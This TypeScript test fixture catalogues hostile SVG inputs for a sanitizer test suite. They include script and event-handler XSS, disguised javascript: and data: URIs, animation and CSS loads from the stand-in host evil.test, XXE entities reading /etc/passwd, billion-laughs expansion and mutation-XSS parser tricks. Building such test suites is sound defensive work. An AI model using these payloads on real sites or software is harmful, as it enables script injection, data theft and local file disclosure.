/** SVG that tries to run a script, load something or break out; `pwned()` and `evil.test` are what must never be reached. */

export interface HostilePayload {
  name: string;
  svg: string;
}

const svg = (inner: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"${attributes}>${inner}</svg>`;
const html = 'xmlns="http://www.w3.org/1999/xhtml"';

/** Elements that run or embed something. */
const ELEMENTS: Record<string, string> = {
  script: '<script>pwned()</script>',
  'script with CDATA': '<script><![CDATA[pwned()]]></script>',
  'script href': '<script href="https://evil.test/x.js"/>',
  'script xlink:href': '<script xlink:href="https://evil.test/x.js"/>',
  'script with a data URI': '<script href="data:text/javascript,pwned()"/>',
  'script in capitals': '<SCRIPT>pwned()</SCRIPT>',
  'script in the HTML namespace': `<script ${html}>pwned()</script>`,
  'script under another prefix': '<x:script xmlns:x="http://www.w3.org/2000/svg">pwned()</x:script>',
  'script in defs': '<defs><script>pwned()</script></defs>',
  'script in a title': `<title><script ${html}>pwned()</script></title>`,
  'script in a desc': '<desc><script>pwned()</script></desc>',
  'script in a text': '<text><script>pwned()</script>label</text>',
  'script in a symbol': '<symbol id="s"><script>pwned()</script></symbol><use href="#s"/>',
  'foreignObject with a script': `<foreignObject width="9" height="9"><script ${html}>pwned()</script></foreignObject>`,
  'foreignObject with an image': `<foreignObject width="9" height="9"><img ${html} src="x" onerror="pwned()"/></foreignObject>`,
  'foreignObject with an iframe': `<foreignObject width="9" height="9"><iframe ${html} src="https://evil.test/"/></foreignObject>`,
  'foreignObject with a body': `<foreignObject><body ${html} onload="pwned()">label</body></foreignObject>`,
  'foreignObject with a form': `<foreignObject><form ${html} action="https://evil.test/"><input name="a"/></form></foreignObject>`,
  'foreignObject with a style': `<foreignObject><style ${html}>@import "https://evil.test/a.css"</style></foreignObject>`,
  'foreignObject with SVG inside': `<foreignObject><div ${html}><svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/></div></foreignObject>`,
  'foreignObject with an audio': `<foreignObject><audio ${html} src="https://evil.test/a" onerror="pwned()"/></foreignObject>`,
  'foreignObject with a meta refresh': `<foreignObject><meta ${html} http-equiv="refresh" content="0;url=https://evil.test/"/></foreignObject>`,
  'foreignObject with a base': `<foreignObject><base ${html} href="https://evil.test/"/></foreignObject>`,
  'foreignObject with a template': `<foreignObject><template ${html}><script>pwned()</script></template></foreignObject>`,
  'foreignObject with a math breakout': `<foreignObject><math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><img ${html} src="x" onerror="pwned()"/></mtext></math></foreignObject>`,
  iframe: `<iframe ${html} src="javascript:pwned()"/>`,
  'iframe srcdoc': `<iframe ${html} srcdoc="&lt;script&gt;parent.pwned()&lt;/script&gt;"/>`,
  object: `<object ${html} data="https://evil.test/x.svg"/>`,
  embed: `<embed ${html} src="https://evil.test/x.svg"/>`,
  link: `<link ${html} rel="stylesheet" href="https://evil.test/a.css"/>`,
  meta: `<meta ${html} http-equiv="refresh" content="0;url=https://evil.test/"/>`,
  video: `<video ${html} src="https://evil.test/v" onerror="pwned()"/>`,
  'SVG audio': '<audio href="https://evil.test/a"/>',
  'handler of SVG Tiny':
    '<handler type="text/javascript" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">pwned()</handler>',
  'listener of XML events': '<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#h"/>',
  'unknown element': '<blink onclick="pwned()">label</blink>',
  'custom element': `<x-y ${html} onfocus="pwned()" tabindex="0" autofocus="autofocus">label</x-y>`,
  'MathML link': '<math xmlns="http://www.w3.org/1998/Math/MathML"><mi href="javascript:pwned()">x</mi></math>',
  'XSL in the picture': '<xsl:script xmlns:xsl="http://www.w3.org/TR/WD-xsl">pwned()</xsl:script>',
};

/** Attributes that run something. */
const EVENTS: Record<string, string> = {
  'onload on a rect': '<rect width="9" height="9" onload="pwned()"/>',
  'onclick on a group': '<g onclick="pwned()"><rect width="9" height="9"/></g>',
  'onmouseover on a text': '<text onmouseover="pwned()">label</text>',
  'onerror on an image': '<image href="https://evil.test/x.png" width="9" height="9" onerror="pwned()"/>',
  'onbegin on an animation':
    '<rect width="9" height="9"><animate attributeName="x" dur="1s" onbegin="pwned()"/></rect>',
  'onend on a set': '<set attributeName="x" to="1" dur="1s" onend="pwned()"/>',
  'onfocusin with tabindex': '<rect width="9" height="9" tabindex="0" onfocusin="pwned()" autofocus="autofocus"/>',
  'event in capitals': '<rect width="9" height="9" ONLOAD="pwned()" OnClick="pwned()"/>',
  'event behind a slash': '<rect width="9" height="9" onload ="pwned()" />',
  'event in a namespace': '<rect width="9" height="9" xmlns:z="urn:z" z:onload="pwned()"/>',
  'onunload and onzoom': '<rect width="9" height="9" onunload="pwned()" onzoom="pwned()" onscroll="pwned()"/>',
  'event on a nested svg': '<svg width="9" height="9" onload="pwned()"><rect width="9" height="9"/></svg>',
  'event on a marker':
    '<marker id="m" onload="pwned()"><path d="M0 0h9"/></marker><path d="M0 0h9" marker-end="url(#m)"/>',
  'event on a link': '<a href="#" onclick="pwned()"><text>label</text></a>',
};

/** Animations that turn something harmless into a script. */
const ANIMATIONS: Record<string, string> = {
  'animate on href':
    '<a id="a"><animate attributeName="href" values="javascript:pwned()" begin="0s"/><text>label</text></a>',
  'animate on xlink:href':
    '<a><animate attributeName="xlink:href" to="javascript:pwned()" begin="0s"/><text>label</text></a>',
  'set on href': '<a><set attributeName="href" to="javascript:pwned()"/><text>label</text></a>',
  'set on an event': '<rect width="9" height="9"><set attributeName="onmouseover" to="pwned()"/></rect>',
  'animate on a style':
    '<rect width="9" height="9"><animate attributeName="style" to="fill:url(https://evil.test/a)"/></rect>',
  'animateTransform with a link': '<animateTransform href="https://evil.test/x.svg#a" attributeName="transform"/>',
  'animateMotion with an mpath':
    '<rect width="9" height="9"><animateMotion><mpath href="https://evil.test/x.svg#p"/></animateMotion></rect>',
  'animation from afar':
    '<a id="far"><text>label</text></a><animate href="#far" attributeName="href" to="javascript:pwned()"/>',
  discard: '<discard begin="0s" href="https://evil.test/"/>',
};

/** Ways to disguise an address, each tried on every carrier below. */
const ADDRESSES: Record<string, string> = {
  javascript: 'javascript:pwned()',
  'javascript in mixed case': 'JaVaScRiPt:pwned()',
  'javascript with entities': '&#106;avascript&#58;pwned()',
  'javascript with a tab': 'java&#9;script:pwned()',
  'javascript with a line feed': 'java&#10;script:pwned()',
  'javascript after spaces': '&#32;&#160; javascript:pwned()',
  'javascript after control-like spaces': '&#x2028;javascript:pwned()',
  vbscript: 'vbscript:pwned()',
  'data HTML': 'data:text/html,&lt;script&gt;pwned()&lt;/script&gt;',
  'data SVG':
    'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icHduZWQoKSIvPg==#a',
  'not really a PNG': 'data:image/png;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKCkiLz4=',
  'other host': 'https://evil.test/x.svg#a',
  'other host without a scheme': '//evil.test/x.svg#a',
  'file on this machine': 'file:///etc/passwd',
  'relative file': 'x.svg#a',
  blob: 'blob:https://evil.test/1',
};

const CARRIERS: Record<string, (address: string) => string> = {
  'use href': (address) => `<use href="${address}"/>`,
  'use xlink:href': (address) => `<use xlink:href="${address}"/>`,
  'image href': (address) => `<image width="9" height="9" href="${address}"/>`,
  'image xlink:href': (address) => `<image width="9" height="9" xlink:href="${address}"/>`,
  'feImage href': (address) =>
    `<filter id="f"><feImage href="${address}"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
  'fill url': (address) => `<rect width="9" height="9" fill="url(${address})"/>`,
  'style url': (address) => `<rect width="9" height="9" style="fill:url('${address}');cursor:url(${address}),auto"/>`,
};

/** Links may lead to the web, and nowhere else. */
const LINK_ADDRESSES = Object.entries(ADDRESSES).filter(([name]) => !name.startsWith('other host'));

/** Ways in through CSS. */
const STYLES: Record<string, string> = {
  'style with an import':
    '<style>@import url("https://evil.test/a.css");rect{fill:red}</style><rect width="9" height="9"/>',
  'style with a background': '<style>rect{background:url(https://evil.test/a)}</style><rect width="9" height="9"/>',
  'style with a fill': '<style>rect{fill:url(https://evil.test/a#b)}</style><rect width="9" height="9"/>',
  'style with a filter': '<style>rect{filter:url(https://evil.test/a#b)}</style><rect width="9" height="9"/>',
  'style with a font':
    '<style>@font-face{font-family:x;src:url(https://evil.test/f)}text{font-family:x}</style><text y="9">label</text>',
  'style with escapes': '<style>rect{fill:u\\72l(https://evil.test/a#b)}</style><rect width="9" height="9"/>',
  'style with a variable':
    '<style>rect{--a:url(https://evil.test/a#b);fill:var(--a)}</style><rect width="9" height="9"/>',
  'style that reaches siblings':
    '<style>*{background:url(https://evil.test/a)!important}body{display:none}</style><rect width="9" height="9"/>',
  'style attribute with a marker': '<path d="M0 0h9" style="marker:url(https://evil.test/a#b)"/>',
  'style attribute with a mask':
    '<rect width="9" height="9" style="mask-image:url(https://evil.test/a);-webkit-mask:url(https://evil.test/b)"/>',
  'style attribute with an image set':
    '<rect width="9" height="9" style="background:image-set(url(https://evil.test/a) 1x)"/>',
  'style attribute with an expression':
    '<rect width="9" height="9" style="width:expression(pwned());behavior:url(#x);-moz-binding:url(#y)"/>',
  'style attribute with a comment':
    '<rect width="9" height="9" style="fill:u/**/rl(https://evil.test/a);fill:url(/**/https://evil.test/b)"/>',
  'attribute with escapes': '<rect width="9" height="9" fill="u\\72 l(https://evil.test/a)"/>',
  'attribute with capitals': '<rect width="9" height="9" fill="URL(https://evil.test/a)"/>',
  'attribute with a second address': '<rect width="9" height="9" fill="url(#a) url(https://evil.test/a)"/>',
  'attribute with quotes': '<rect width="9" height="9" clip-path="url(&quot;https://evil.test/a#b&quot;)"/>',
  'attribute with a space': '<rect width="9" height="9" mask="url( https://evil.test/a#b )"/>',
  'cursor attribute': '<rect width="9" height="9" cursor="url(https://evil.test/c),auto"/>',
  'filter attribute': '<rect width="9" height="9" filter="url(https://evil.test/f.svg#f) blur(1px)"/>',
  'marker attribute': '<path d="M0 0h9" marker-end="url(https://evil.test/f.svg#m)"/>',
  'stop colour':
    '<linearGradient id="l"><stop stop-color="url(https://evil.test/a)"/></linearGradient><rect width="9" height="9" fill="url(#l)"/>',
  'gradient from afar':
    '<linearGradient id="l" href="https://evil.test/a.svg#b"/><rect width="9" height="9" fill="url(#l)"/>',
  'pattern from afar':
    '<pattern id="p" xlink:href="https://evil.test/a.svg#b"/><rect width="9" height="9" fill="url(#p)"/>',
  'textPath from afar': '<text><textPath href="https://evil.test/a.svg#b">label</textPath></text>',
};

/** Whole documents: what surrounds the picture, and markup that another parser reads differently. */
const DOCUMENTS: Record<string, string> = {
  'onload on the root': svg('<rect width="9" height="9"/>', ' onload="pwned()"'),
  'event with a capital on the root': svg('<rect width="9" height="9"/>', ' onLoad="pwned()"'),
  'xml:base on the root': svg('<use href="#a"/>', ' xml:base="https://evil.test/"'),
  'style on the root': svg('<rect width="9" height="9"/>', ' style="background:url(https://evil.test/a)"'),
  'role and labels with markup': svg(
    '<rect width="9" height="9"/>',
    ' aria-roledescription="&lt;img src=x onerror=pwned()&gt;"',
  ),
  'stylesheet instruction': `<?xml-stylesheet href="https://evil.test/a.css"?>${svg('<rect width="9" height="9"/>')}`,
  'stylesheet instruction inside': svg('<?xml-stylesheet href="https://evil.test/a.css"?><rect width="9" height="9"/>'),
  'doctype with an external part': `<!DOCTYPE svg SYSTEM "https://evil.test/a.dtd">${svg('<rect width="9" height="9"/>')}`,
  'doctype with an entity': `<!DOCTYPE svg [<!ENTITY x "&#60;script&#62;pwned()&#60;/script&#62;">]>${svg('<text>&x;</text>')}`,
  'entity of a file': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
  'billion laughs': `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>${svg('<text>&c;&c;&c;</text>')}`,
  'tag that never ends': '<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9" onload="pwned()"',
  'tags that cross':
    '<svg xmlns="http://www.w3.org/2000/svg"><g><text>label</g></text><img src=x onerror=pwned()></svg>',
  'two roots': `${svg('<rect width="9" height="9"/>')}<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/>`,
  'HTML after the picture': `${svg('<rect width="9" height="9"/>')}<img src="x" onerror="pwned()"/>`,
  'style that hides a tag': svg('<style><a title="</style><img src=x onerror=pwned()>"/></style>'),
  'title that hides a tag': svg('<title>&lt;/title&gt;&lt;img src=x onerror=pwned()&gt;</title>'),
  'title with an attribute that closes it': svg(
    '<title><a title="&lt;/title&gt;&lt;img src=x onerror=pwned()&gt;">x</a></title>',
  ),
  'desc with HTML': svg(`<desc><img ${html} src="x" onerror="pwned()"/></desc>`),
  'text that closes the picture': svg('<text>&lt;/text&gt;&lt;/svg&gt;&lt;script&gt;pwned()&lt;/script&gt;</text>'),
  'attribute that closes the tag': svg(
    '<text font-family="&quot;&gt;&lt;script&gt;pwned()&lt;/script&gt;">label</text>',
  ),
  'CDATA that hides a tag': svg('<text><![CDATA[<script>pwned()</script>]]></text>'),
  'comment that hides a tag': svg('<!--><img src=x onerror=pwned()>--><rect width="9" height="9"/>'),
  'comment in a style': svg('<style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;"/></style>'),
  'noscript that hides a tag': svg(
    `<noscript ${html}><p title="&lt;/noscript&gt;&lt;img src=x onerror=pwned()&gt;"/></noscript>`,
  ),
  'namespace of the root is HTML': `<svg ${html}><script>pwned()</script></svg>`,
  'namespace changes below': svg(`<g ${html} onclick="pwned()"><p>label</p></g>`),
  'id that shadows a property': svg('<g id="cookie"><rect id="body" width="9" height="9"/></g><use href="#cookie"/>'),
  'id with markup': svg('<g id="&quot;&gt;&lt;script&gt;pwned()&lt;/script&gt;"><rect width="9" height="9"/></g>'),
  'link with a target and a base': svg(
    '<a href="https://evil.test/" target="x" ping="https://evil.test/p" download="x"><text>label</text></a>',
  ),
  'link with credentials trick': svg('<a href="https:evil.test\\@good.test"><text>label</text></a>'),
  'template expression': svg(`<text>{{constructor.constructor("pwned()")()}} \${pwned()}</text>`),
  'null and control characters': svg('<text>la&#1;bel</text>'),
  'sprite with a text chunk': svg(
    '<image width="9" height="9" href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAAC3RFWHRDb21tZW50AHB3bmVkHHt/CwAAAABJRU5ErkJggg=="/>',
  ),
  'use that multiplies': svg(
    '<g id="a"><rect width="1" height="1"/></g><g id="b"><use href="#a"/><use href="#a"/></g><g id="c"><use href="#c"/><use href="#b"/></g>',
  ),
};

const rows = (kind: string, table: Record<string, string>): HostilePayload[] =>
  Object.entries(table).map(([name, inner]) => ({ name: `${kind}: ${name}`, svg: svg(inner) }));

export const HOSTILE_PAYLOADS: readonly HostilePayload[] = [
  ...rows('element', ELEMENTS),
  ...rows('event', EVENTS),
  ...rows('animation', ANIMATIONS),
  ...rows('style', STYLES),
  ...Object.entries(DOCUMENTS).map(([name, text]) => ({ name: `document: ${name}`, svg: text })),
  ...LINK_ADDRESSES.flatMap(([name, address]) => [
    { name: `link: ${name}`, svg: svg(`<a href="${address}"><text>label</text></a>`) },
    { name: `xlink: ${name}`, svg: svg(`<a xlink:href="${address}"><text>label</text></a>`) },
  ]),
  ...Object.entries(CARRIERS).flatMap(([carrier, write]) =>
    Object.entries(ADDRESSES).map(([name, address]) => ({ name: `${carrier}: ${name}`, svg: svg(write(address)) })),
  ),
];
